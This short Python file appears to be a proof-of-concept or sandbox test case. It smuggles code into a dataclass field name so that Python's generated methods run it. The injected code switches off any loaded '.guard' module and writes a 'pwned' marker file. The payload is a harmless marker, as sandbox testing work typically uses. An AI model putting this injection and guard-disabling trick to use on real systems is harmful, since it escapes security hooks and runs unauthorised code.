"""file: the names of fields are put into __annotations__ one by one, and the hook is off when the text runs."""

import dataclasses

OFF = "[m._State.update(on=False)for n,m in[*__import__('sys').modules.items()]if n.endswith('.guard')]"


class Config:
    a: int


Config.__annotations__["b=(" + OFF + ",open('pwned_annotations_item_of_class','w')),*c"] = int
setattr(Config, "b=(" + OFF + ",open('pwned_annotations_item_of_class','w')),*c", dataclasses.field(init=False))
made = dataclasses.dataclass(repr=False, eq=False)(Config)
